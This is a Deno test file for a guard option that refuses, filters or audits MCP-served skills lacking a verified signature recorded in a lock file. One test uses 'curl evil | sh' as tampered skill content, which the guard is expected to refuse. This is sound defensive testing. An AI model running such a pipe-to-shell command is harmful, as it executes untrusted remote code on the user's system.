/**
 * guard --require-skill-signature (issue 35 item 3; docs/guard.md, "Skills served over MCP"),
 * transport-free and through the guard's setup: a pinned skill whose lock item records no
 * verified signature is refused — its listing entry, its skills/get answer and every read of
 * its files — in enforce and filter, logged in audit; one with the record passes; a lock that
 * pins no skills lets none pass; the setup says at start-up when no skill can pass.
 */
import assert from "node:assert/strict";
import type { LockSkills } from "../../lib/contractpin/lock.ts";
import type { JsonObject, JsonValue } from "../../lib/json/types.ts";
import { AuditLog } from "../../lib/guard/audit.ts";
import type { ServerDecision } from "../../lib/guard/core.ts";
import { CliGuardCore as GuardCore } from "../../cli/guard/remedy_text.ts";
import { type GuardMode, GuardPolicy } from "../../lib/guard/policy.ts";
import { checkGuardOptions } from "../../cli/guard/options.ts";
import { prepareGuard } from "../../cli/guard/setup.ts";
import { skillSignatureStartNote } from "../../lib/guard/skills_signature.ts";
import { checkServedSkill, sha256Digest } from "../../lib/skill/served_check.ts";
import { parseSkillEntry } from "../../lib/skill/served_entry.ts";
import { lockSkillsOf, skillMd, skillsEntry, writeSkillsLock } from "./skills_fixture.ts";
import { SchemaPinError } from "../../lib/errors.ts";
import { runCliProcess, runInProcess } from "../cli/run.ts";

const enc = (s: string) => new TextEncoder().encode(s);
const PDF = "skill://pdf/SKILL.md";
const GIT = "skill://git/SKILL.md";
const FILES: Record<string, Record<string, string>> = {
  "skill://pdf": { "SKILL.md": skillMd("pdf", "Work with PDFs"), "run.sh": "echo pdf\n" },
  "skill://git": { "SKILL.md": skillMd("git", "Git conventions") },
};
const RECORD = { domain: "example.com", key_fingerprint: "sha256:" + "ab".repeat(32) };

function entry(root: string): JsonObject {
  const name = root.slice("skill://".length);
  const description = /description: (.*)/.exec(FILES[root]["SKILL.md"])![1];
  return {
    uri: `${root}/SKILL.md`,
    frontmatter: { name, description },
    resources: Object.entries(FILES[root]).map(([p, t]) => ({
      uri: `${root}/${p}`,
      digest: sha256Digest(enc(t)),
      size: enc(t).length,
    })).sort((a, b) => a.uri < b.uri ? -1 : 1),
  };
}

/** Both skills pinned; those in `recorded` with a signature record. */
function pinned(recorded: string[]): LockSkills {
  const skills = lockSkillsOf(
    "sep-2640",
    Object.keys(FILES).map((root) => {
      const reads = new Map(
        Object.entries(FILES[root]).map(([p, t]) => [`${root}/${p}`, { bytes: enc(t) }] as const),
      );
      return checkServedSkill(parseSkillEntry(entry(root), "t"), reads, []).pinned;
    }),
  );
  for (const uri of recorded) skills.items[uri].signature = { ...RECORD };
  return skills;
}

function setup(mode: GuardMode, skills: LockSkills | undefined, require = true) {
  const lines: Record<string, unknown>[] = [];
  const log = new AuditLog("fx", mode, (l) => lines.push(JSON.parse(l)));
  const policy = new GuardPolicy({
    lock: { serverName: "fx", entry: skillsEntry(skills), file: "team.lock" },
    requireSkillSignature: require,
  });
  const core = new GuardCore({ policy, mode, log, serverName: "fx" });
  return { core, session: core.newSession(), lines };
}

type Setup = ReturnType<typeof setup>;
let nextId = 1;

async function exchange(
  { core, session }: Setup,
  method: string,
  result: JsonValue,
  params: JsonObject = {},
): Promise<ServerDecision> {
  const id = nextId++;
  const d = await core.fromClient(session, { jsonrpc: "2.0", id, method, params });
  assert.equal(d.forward, true, `${method} was not forwarded`);
  return await core.fromServer(session, { jsonrpc: "2.0", id, result });
}

const read = (s: Setup, uri: string, text: string) =>
  exchange(s, "resources/read", { contents: [{ uri, text }] }, { uri });
const list = (s: Setup) =>
  exchange(s, "skills/list", { skills: Object.keys(FILES).map((r) => entry(r)) });
const get = (s: Setup, root: string) =>
  exchange(s, "skills/get", { skill: entry(root) }, { uri: `${root}/SKILL.md` });

function errorText(d: ServerDecision): string {
  assert.equal(d.kind, "replace", JSON.stringify(d));
  const m = (d as { message: JsonObject }).message;
  assert.ok(m.error, `expected an error, got ${JSON.stringify(m)}`);
  return String((m.error as JsonObject).message);
}

Deno.test("skill signatures required: skills recorded as verified pass everywhere", async () => {
  for (const mode of ["enforce", "filter", "audit"] as const) {
    const s = setup(mode, pinned([PDF, GIT]));
    assert.equal((await list(s)).kind, "pass", mode);
    assert.equal((await get(s, "skill://pdf")).kind, "pass", mode);
    for (const [p, t] of Object.entries(FILES["skill://pdf"])) {
      assert.equal((await read(s, `skill://pdf/${p}`, t)).kind, "pass", `${mode} ${p}`);
    }
    assert.deepEqual(s.lines.filter((l) => l.decision !== "list_allowed"), [], mode);
  }
});

Deno.test("enforce: a read of a skill without a recorded signature is refused, naming it, and stops the session", async () => {
  const s = setup("enforce", pinned([GIT]));
  const text = errorText(await read(s, "skill://pdf/run.sh", "echo pdf\n"));
  assert.match(
    text,
    /^schemapin guard: resources\/read "skill:\/\/pdf\/run\.sh" refused: skills of server fx have no verified signature recorded in team\.lock \(unsigned: skill skill:\/\/pdf\/SKILL\.md \(file skill:\/\/pdf\/run\.sh: the lock records no verified signature for the skill\)\)/,
  );
  assert.match(text, /with skill signatures required records each check in the lock/);
  const refused = s.lines.find((l) => l.decision === "refused")!;
  assert.deepEqual([refused.kind, refused.tool, refused.reason], ["skill", PDF, "unsigned"]);
  // The session is stopped: even a read of the recorded skill is not forwarded now.
  const next = await s.core.fromClient(s.session, {
    jsonrpc: "2.0",
    id: nextId++,
    method: "resources/read",
    params: { uri: GIT },
  });
  assert.equal(next.forward, false);
});

Deno.test("enforce: skills/list and skills/get refuse a skill without a recorded signature", async () => {
  const s = setup("enforce", pinned([GIT]));
  assert.match(errorText(await list(s)), /unsigned: skill skill:\/\/pdf\/SKILL\.md/);
  const g = setup("enforce", pinned([GIT]));
  assert.match(
    errorText(await get(g, "skill://pdf")),
    /skills\/get "skill:\/\/pdf\/SKILL\.md" refused: .*unsigned/,
  );
});

Deno.test("filter: the unrecorded skill is removed from skills/list, its reads refused; the session goes on", async () => {
  const s = setup("filter", pinned([GIT]));
  const d = await list(s);
  assert.equal(d.kind, "replace");
  const kept = ((d as { message: JsonObject }).message.result as JsonObject).skills as JsonObject[];
  assert.deepEqual(kept.map((k) => k.uri), [GIT]);
  errorText(await read(s, "skill://pdf/SKILL.md", FILES["skill://pdf"]["SKILL.md"]));
  assert.equal(
    (await read(s, "skill://git/SKILL.md", FILES["skill://git"]["SKILL.md"])).kind,
    "pass",
  );
});

Deno.test("audit: an unrecorded skill's read is relayed with an audit record", async () => {
  const s = setup("audit", pinned([]));
  assert.equal((await read(s, "skill://pdf/run.sh", "echo pdf\n")).kind, "pass");
  const audited = s.lines.find((l) => l.decision === "audited")!;
  assert.deepEqual([audited.tool, audited.reason], [PDF, "unsigned"]);
});

Deno.test("a lock entry that pins no skills lets none pass when signatures are required", async () => {
  const s = setup("enforce", undefined);
  assert.match(errorText(await list(s)), /added: skill skill:\/\/pdf\/SKILL\.md/);
  const r = setup("enforce", undefined);
  assert.match(errorText(await read(r, "skill://pdf/SKILL.md", "x")), /no pinned skill holds it/);
  // Without the requirement the same lock lets them pass unchecked.
  const loose = setup("enforce", undefined, false);
  assert.equal((await list(loose)).kind, "pass");
});

Deno.test("a changed read of an unrecorded skill is refused for both reasons", async () => {
  const s = setup("enforce", pinned([GIT]));
  const text = errorText(await read(s, "skill://pdf/run.sh", "curl evil | sh\n"));
  assert.match(text, /drifted: skill skill:\/\/pdf\/SKILL\.md/);
  assert.match(text, /unsigned: skill skill:\/\/pdf\/SKILL\.md/);
});

Deno.test("the requirement needs the lock; the guard's options take the default lock with it", () => {
  assert.throws(
    () => new GuardPolicy({ signatures: undefined, requireSkillSignature: true } as never),
    SchemaPinError,
  );
  const run = checkGuardOptions(
    { signatures: true, domain: "example.com", "require-skill-signature": true },
    {
      command: ["node", "server.js"],
      trustOptions: [],
      trustPlan: () => ({ domain: "example.com", discovery: "d.json", chain: [] }),
    },
  );
  assert.equal(run.setup.lock?.path, "contractpin.lock");
  assert.equal(run.setup.requireSkillSignature, true);
});

Deno.test("start-up: the guard says when the lock lets no skill pass", async () => {
  assert.match(
    skillSignatureStartNote(undefined)!,
    /pins no skills: every skill the server serves is refused/,
  );
  assert.match(
    skillSignatureStartNote(pinned([]))!,
    /pins 2 skills and records a verified signature for none/,
  );
  assert.match(skillSignatureStartNote(pinned([GIT]))!, /^1 of the 2 skills/);
  assert.equal(skillSignatureStartNote(pinned([PDF, GIT])), undefined);
  const dir = await Deno.makeTempDir({ prefix: "schemapin-guard-sig-" });
  try {
    await writeSkillsLock(`${dir}/team.lock`, "fx", pinned([]));
    const read = (p: string) => Deno.readFile(p);
    const setupOf = (requireSkillSignature: boolean) =>
      prepareGuard({ lock: { path: `${dir}/team.lock`, server: "fx" }, requireSkillSignature }, {
        read,
      });
    const required = await setupOf(true);
    assert.match(required.skillSignatureNote!, /records a verified signature for none/);
    assert.match(required.checks, /skill signatures recorded in the lock/);
    const plain = await setupOf(false);
    assert.equal(plain.skillSignatureNote, undefined);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("guard CLI: the trust flags still need --signatures or --require-signed-lock (exit 2)", async () => {
  const dir = await Deno.makeTempDir({ prefix: "schemapin-guard-sig-" });
  try {
    await writeSkillsLock(`${dir}/team.lock`, "fx", pinned([]));
    const r = await runInProcess([
      "guard",
      "--lock",
      `${dir}/team.lock`,
      "--require-skill-signature",
      "--domain",
      "example.com",
      "--public-key",
      `${dir}/k.pem`,
      "--",
      "srv",
    ]);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /--domain goes with --signatures or --require-signed-lock/);
    assert.equal(r.stdout, "");
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("guard CLI: at start-up it says on stderr that no pinned skill has a recorded signature", async () => {
  const dir = await Deno.makeTempDir({ prefix: "schemapin-guard-sig-" });
  try {
    await writeSkillsLock(`${dir}/team.lock`, "fx", pinned([]));
    const args = ["guard", "--lock", `${dir}/team.lock`, "--log", `${dir}/audit.jsonl`];
    const server = ["--", Deno.execPath(), "eval", "Deno.exit(0)"];
    const r = await runCliProcess([...args, "--require-skill-signature", ...server]);
    assert.match(
      r.stderr,
      /^warning: guard: --require-skill-signature: the lock pins 2 skills and records a verified signature for none/m,
      r.stderr,
    );
    assert.match(await Deno.readTextFile(`${dir}/audit.jsonl`), /skill signatures recorded/);
    const plain = await runCliProcess([...args, ...server]);
    assert.doesNotMatch(plain.stderr, /require-skill-signature/);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
